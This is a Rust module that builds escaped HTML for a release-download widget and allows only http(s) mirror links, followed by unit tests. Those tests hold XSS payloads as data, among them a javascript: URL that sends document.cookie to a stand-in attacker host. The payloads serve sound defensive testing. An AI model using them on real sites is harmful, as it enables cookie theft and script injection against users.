//! HTML fragments written into `#release-message`.
//!
//! Server-provided strings are always escaped before interpolation, and only
//! http(s) download URLs are rendered as links.

use crate::release::{Mirror, ReleaseResponse};
use std::fmt::Write;
use url::Url;

/// Link colour used for every anchor in the widget.
const LINK_STYLE: &str = "color: #E83951;";

pub const COMMUNITY_URL: &str = "https://discord.gg/sZaf9KYzDp";

/// Shown when the release exists but has no mirrors yet.
pub const PENDING_MESSAGE: &str = "Release is pending, visit our <a href=\"https://discord.gg/sZaf9KYzDp\" style=\"color: #E83951;\">Discord</a> for more information.";

/// Shown on any network, HTTP or parse failure.
pub const ERROR_MESSAGE: &str = "Error fetching release information. Please try again later.";

/// Placeholder in the container before the load handler has run.
pub const LOADING_MESSAGE: &str = "Loading release information...";

/// Escapes text for use in element content and double- or single-quoted attributes.
pub fn escape_html(input: &str) -> String {
    let mut out = String::with_capacity(input.len());
    for c in input.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&#39;"),
            c => out.push(c),
        }
    }
    out
}

/// The URL as an `href` value, or `None` unless it is absolute `http`/`https`.
/// Anything else (`javascript:`, `data:`, relative paths) must not become a live link.
pub fn safe_href(download_url: &str) -> Option<String> {
    let parsed = Url::parse(download_url.trim()).ok()?;
    match parsed.scheme() {
        "http" | "https" => Some(escape_html(download_url.trim())),
        _ => None,
    }
}

fn mirror_item(out: &mut String, mirror: &Mirror) {
    let link = match safe_href(&mirror.download_url) {
        Some(href) => format!("<a href=\"{}\" style=\"{}\">Download</a>", href, LINK_STYLE),
        None => {
            tracing::warn!(url = %mirror.download_url, "mirror URL is not http(s); rendered without link");
            "Download unavailable".to_string()
        }
    };
    // Writing into a String cannot fail.
    let _ = write!(
        out,
        "  <li>\n    {} |\n    SHA256: {} |\n    Release Date: {}\n  </li>\n",
        link,
        escape_html(&mirror.sha),
        escape_html(&mirror.release_date),
    );
}

/// Renders the release list, or [`PENDING_MESSAGE`] when there are no mirrors.
pub fn release_message(response: &ReleaseResponse) -> String {
    if response.mirrors.is_empty() {
        return PENDING_MESSAGE.to_string();
    }
    let mut out =
        String::from("<ul style=\"list-style: none; padding-left: 0; text-align: center;\">\n");
    for mirror in &response.mirrors {
        mirror_item(&mut out, mirror);
    }
    out.push_str("</ul>");
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn mirror(url: &str, sha: &str, date: &str) -> Mirror {
        Mirror {
            download_url: url.to_string(),
            sha: sha.to_string(),
            release_date: date.to_string(),
        }
    }

    #[test]
    fn empty_mirrors_render_pending_message() {
        let html = release_message(&ReleaseResponse::new("latest", vec![]));
        assert_eq!(html, PENDING_MESSAGE);
        assert!(html.contains(&format!("href=\"{}\"", COMMUNITY_URL)));
    }

    #[test]
    fn one_item_per_mirror_in_input_order() {
        let response = ReleaseResponse::new(
            "latest",
            vec![
                mirror("https://one.example/r.zip", "1111", "2024-01-01"),
                mirror("https://two.example/r.zip", "2222", "2024-02-02"),
                mirror("https://three.example/r.zip", "3333", "2024-03-03"),
            ],
        );
        let html = release_message(&response);
        assert_eq!(html.matches("<li>").count(), 3);
        assert_eq!(html.matches("</li>").count(), 3);
        assert!(html.starts_with("<ul "));
        assert!(html.ends_with("</ul>"));

        let one = html.find("https://one.example/r.zip").unwrap();
        let two = html.find("https://two.example/r.zip").unwrap();
        let three = html.find("https://three.example/r.zip").unwrap();
        assert!(one < two && two < three);

        assert!(html.contains("SHA256: 2222 |"));
        assert!(html.contains("Release Date: 2024-03-03"));
        assert!(html.contains(
            "<a href=\"https://one.example/r.zip\" style=\"color: #E83951;\">Download</a>"
        ));
    }

    #[test]
    fn special_characters_render_literally() {
        let response = ReleaseResponse::new(
            "latest",
            vec![mirror(
                "https://x.example/\"><script>alert(1)</script>",
                "<b>sha</b>",
                "2024 & 'later'",
            )],
        );
        let html = release_message(&response);
        assert!(!html.contains("<script>"));
        assert!(!html.contains("<b>"));
        assert!(html.contains("&lt;script&gt;alert(1)&lt;/script&gt;"));
        assert!(html.contains("href=\"https://x.example/&quot;&gt;"));
        assert!(html.contains("SHA256: &lt;b&gt;sha&lt;/b&gt; |"));
        assert!(html.contains("Release Date: 2024 &amp; &#39;later&#39;"));
    }

    #[test]
    fn script_urls_are_not_rendered_as_links() {
        let response = ReleaseResponse::new(
            "latest",
            vec![
                mirror(
                    "javascript:fetch('//evil.example/?c='+document.cookie)",
                    "aa",
                    "2024-01-01",
                ),
                mirror("JavaScript:alert(1)", "bb", "2024-01-01"),
                mirror("data:text/html,<script>alert(1)</script>", "cc", "2024-01-01"),
                mirror("vbscript:msgbox(1)", "dd", "2024-01-01"),
                mirror("/relative/r.zip", "ee", "2024-01-01"),
            ],
        );
        let html = release_message(&response);
        assert_eq!(html.matches("<li>").count(), 5);
        assert!(!html.contains("href="));
        assert!(!html.to_ascii_lowercase().contains("javascript:"));
        assert_eq!(html.matches("Download unavailable").count(), 5);
        assert!(html.contains("SHA256: cc |"));
    }

    #[test]
    fn safe_href_keeps_http_and_https() {
        assert_eq!(
            safe_href("https://a.example/r.zip?x=1&y=2").as_deref(),
            Some("https://a.example/r.zip?x=1&amp;y=2")
        );
        assert!(safe_href("http://a.example/r.zip").is_some());
        assert!(safe_href("ftp://a.example/r.zip").is_none());
        assert!(safe_href("").is_none());
    }

    #[test]
    fn escape_html_leaves_plain_text() {
        assert_eq!(escape_html("abc-123_DEF"), "abc-123_DEF");
        assert_eq!(escape_html(""), "");
    }
}
